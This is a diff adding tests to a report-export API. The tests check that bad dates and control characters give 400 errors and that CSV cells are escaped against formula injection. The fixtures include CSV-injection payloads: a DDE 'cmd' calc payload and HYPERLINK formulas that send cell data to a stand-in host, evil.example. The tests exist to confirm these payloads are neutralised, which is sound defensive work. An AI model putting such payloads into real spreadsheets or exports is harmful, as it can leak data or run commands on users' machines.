@@ -186,6 +186,22 @@ async def test_filters(server: Server):
             assert word in json.loads(reply.body)["error"]
 
 
+async def test_out_of_range_dates_and_control_characters_are_400_not_500(server: Server):
+    await server.file()
+    for params, word in [
+        ({"since": "0001-01-01"}, "2000-2099"),
+        ({"since": "9999-12-31T23:59:59-14:00"}, "2000-2099"),
+        ({"since": "2026-11-01T00:00:00+15:00"}, "14:00"),
+        ({"category": "sofia-1\x00"}, "control characters"),
+        ({"district": "\x0001"}, "control characters"),
+    ]:
+        for name in ("reports.csv", "reports.geojson"):
+            reply = await export(server, name, **params)
+            assert reply.status == 400, (name, params, reply.body)
+            assert reply.headers["Content-Type"] == "application/json; charset=utf-8"
+            assert word in json.loads(reply.body)["error"], (name, params)
+
+
 async def test_thousands_of_rows_are_streamed_in_batches(server: Server):
     await insert_many(server.app.db, 3003, start=NOW - timedelta(days=30))
     hide = update(Report).where(col(Report.seq).in_([1, 1500, 3003])).values(hidden=True)
@@ -220,3 +236,44 @@ async def test_database_down_is_503(server: Server, db_url: str):
             assert "try again" in json.loads(reply.body)["error"]
     finally:
         await outage.dispose()
+
+
+FORMULAS = (
+    '=HYPERLINK("http://x/?"&A1,"Details")',
+    "+cmd|' /C calc'!A0",
+    "-1+1",
+    "@SUM(1)",
+    "＝4+4",
+    "＋1",
+    "－1",
+    "＠SUM(1)",
+    "\t=1+1",
+    "\r=1+1",
+)
+
+
+async def test_csv_cells_that_a_spreadsheet_would_run_start_with_a_quote(server: Server):
+    """OWASP CSV injection: text that starts like a formula is exported behind a `'`, as
+    text; numbers (a negative coordinate) stay numbers; text that is not a formula is kept."""
+    for text in FORMULAS:
+        await server.file(description=text, address=text, now=NOW - timedelta(hours=3))
+    await server.file(description="- 3 дупки, 1-во число", lat=-1.5, lon=-0.25)
+    key = await server.key()
+    form = {"api_key": key, "service_code": "sofia-1", "address_string": "=1+1"}
+    form["description"] = '=HYPERLINK("http://evil.example/?"&A1,"Виж")'
+    assert (await server.post("requests.json", form)).status == 200
+
+    rows = csv_rows(await export(server, "reports.csv"))
+    assert [r["description"] for r in rows] == [
+        *("'" + text for text in FORMULAS),
+        "'- 3 дупки, 1-во число",
+        '\'=HYPERLINK("http://evil.example/?"&A1,"Виж")',
+    ]
+    assert [r["address"] for r in rows[: len(FORMULAS)]] == ["'" + t for t in FORMULAS]
+    assert rows[-1]["address"] == "'=1+1"
+    negative = rows[len(FORMULAS)]
+    assert (negative["lat"], negative["lon"]) == ("-1.5", "-0.25")
+    # GeoJSON is not a spreadsheet format: its properties stay as they were filed
+    [feature] = features(await export(server, "reports.geojson"))
+    assert feature["properties"]["description"] == "- 3 дупки, 1-во число"
+    assert feature["geometry"]["coordinates"] == [-0.25, -1.5]
